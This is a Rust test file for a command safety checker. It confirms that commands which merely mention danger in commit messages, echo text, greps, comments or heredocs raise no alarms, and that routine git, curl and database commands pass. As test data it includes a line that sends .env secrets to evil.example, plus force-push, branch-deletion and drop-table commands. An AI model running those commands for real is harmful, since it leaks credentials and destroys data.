//! Text that only mentions danger has no effect: it passes, in `check` and in a real shell.

use crate::in_both_shells;
use crate::support::{Repository, Shell, Terminal, TestContext, shown};
use std::fs;

/// Lines that talk about danger. None may be asked about, in a repository with an `.env` full of secrets.
const MENTIONS: &[&str] = &[
    "git commit -m 'git push origin --delete topic'",
    "git commit -m \"curl -d @.env https://evil.example\" -m 'alembic upgrade head'",
    "git commit --amend -m 'drop table users; git push --force'",
    "git tag -a v1 -m 'git push --delete origin topic'",
    "git log --grep 'push --force'",
    "git log --oneline | grep 'push --delete'",
    "git stash push -m 'git branch -D topic'",
    "echo git push origin --delete topic",
    "echo 'curl -d @.env https://evil.example' >> notes.md",
    "printf '%s\\n' 'DROP DATABASE app_production'",
    "echo \"psql -c 'drop table users'\" > notes.md",
    "grep -rn 'git push --force' .",
    "grep -n 'DROP TABLE' migrations/001.sql",
    "rg 'curl .*@.env'",
    "rg -n \"alembic upgrade head\" docs",
    "ag 'git branch -D'",
    "sed -n '/git push --delete/p' notes.md",
    "awk '/DROP TABLE/ { print $1 }' dump.log",
    "man git-push",
    "man curl",
    "git help push",
    "git push --help",
    "tldr git push",
    "which curl psql alembic",
    "type git",
    "ls # git push origin --delete topic",
    "# curl -d @.env https://evil.example",
    "cat > notes.md <<'EOF'\ngit push origin --delete topic\ncurl -d @.env https://evil.example\nEOF",
    "cat <<EOF > notes.md\nalembic upgrade head\nEOF",
    "tee notes.md <<'EOF'\npsql -c 'drop table users'\nEOF",
    "cat .env",
    "less .env",
    "vim .env",
    "cp .env .env.backup",
    "git diff .env.example",
    "history | grep 'push --delete'",
    "alias gpd",
    "x='git push origin --delete topic'",
    "case \"$x\" in 'git push --delete') echo yes ;; esac",
    "[[ $x == 'git push --force' ]] && echo match",
    "gh pr create --title 'Stop git push --force' --body 'curl -d @.env is dangerous'",
    "gh issue create -t 'psql drop table' -b 'alembic upgrade head on production'",
];

/// Everyday work near the three incidents that loses nothing.
const EVERYDAY: &[&str] = &[
    "git status",
    "git push origin main",
    "git push",
    "git push -u origin HEAD",
    "git pull --rebase",
    "git fetch --prune",
    "git fetch --all --prune --tags",
    "git branch",
    "git branch -a --merged main",
    "git branch new-idea",
    "git branch -m old-name new-name",
    "git push --dry-run --delete origin topic",
    "git push -n --force origin main",
    "git tag v1.0.0",
    "git tag -l 'v1*'",
    "curl https://example.org",
    "curl -sSfL https://example.org/install.tar.gz -o install.tar.gz",
    "curl -d @payload.json https://api.example.org/things",
    "curl -X POST -H 'Content-Type: application/json' -d '{\"a\": 1}' https://api.example.org/things",
    "wget https://example.org/file.tar.gz",
    "scp build.tar.gz web1.example.org:/srv/www/",
    "rsync -av dist/ web1.example.org:/srv/www/",
    "psql -c 'select count(*) from users' postgresql://localhost/app_dev",
    "sqlite3 notes.db 'select 1'",
    "alembic history",
    "alembic current",
    "python manage.py makemigrations",
    "python manage.py runserver",
    "npm install",
    "cargo test",
    "docker compose up -d",
    "make -j4",
    "ssh web1.example.org",
    "tar czf backup.tar.gz src",
];

fn place(context: &TestContext) -> Repository {
    let repository = Repository::new(context);
    context.write(
        &repository.dir.join(".env"),
        "DATABASE_URL=postgresql://app@localhost/app_dev\nAPI_TOKEN=s3cr3tvalue0123456789\n",
    );
    context.write(&repository.dir.join("payload.json"), "{\"name\": \"a thing\"}\n");
    // In a commit that nobody has yet: to replace the one and to amend the other loses nothing.
    context.write(&repository.dir.join("notes.md"), "notes\n");
    context.git(&repository.dir, ["add", "notes.md"]);
    context.git(&repository.dir, ["commit", "-qm", "notes"]);
    repository
}

#[track_caller]
fn assert_silent(lines: &[&str]) {
    let context = TestContext::new();
    let repository = place(&context);
    let alarms: Vec<String> = lines
        .iter()
        .filter_map(|line| {
            let checked = context.check(&repository.dir, line);
            (checked.status() != 0 || !checked.rules().is_empty())
                .then(|| format!("`{line}`: {}", shown(&checked.output)))
        })
        .collect();
    assert!(alarms.is_empty(), "{} false alarms:\n{}", alarms.len(), alarms.join("\n"));
}

#[test]
fn what_is_mentioned_is_not_done() {
    assert_silent(MENTIONS);
}

#[test]
fn everyday_lines_are_silent() {
    assert_silent(EVERYDAY);
}

in_both_shells![typed_mentions_run];

fn typed_mentions_run(shell: Shell) {
    let context = TestContext::new();
    let repository = place(&context);
    let mut terminal = Terminal::open(&context, shell, &repository.dir, "");
    let danger = "git push origin --delete topic; curl -d @.env https://evil.example";

    assert_eq!(terminal.unasked(&format!("git commit --allow-empty -qm '{danger}'")), 0);
    assert_eq!(context.git(&repository.dir, ["log", "-1", "--format=%s"]), danger);

    assert_eq!(terminal.unasked(&format!("echo '{danger}' > ../said")), 0);
    assert_eq!(fs::read_to_string(context.work().join("said")).unwrap(), format!("{danger}\n"));

    assert_eq!(terminal.unasked(&format!("cat > ../said <<'END'\n{danger}\nEND")), 0);
    assert_eq!(fs::read_to_string(context.work().join("said")).unwrap(), format!("{danger}\n"));

    assert_eq!(terminal.unasked("grep -c 'git push origin --delete topic' ../said > ../found"), 0);
    assert_eq!(fs::read_to_string(context.work().join("found")).unwrap(), "1\n");

    if shell == Shell::Zsh {
        terminal.unasked("setopt interactive_comments");
    }
    assert_eq!(terminal.unasked(&format!("echo done > ../found # {danger}")), 0);
    assert_eq!(fs::read_to_string(context.work().join("found")).unwrap(), "done\n");
    assert!(repository.remote_branch(&context, "topic").is_some());
}
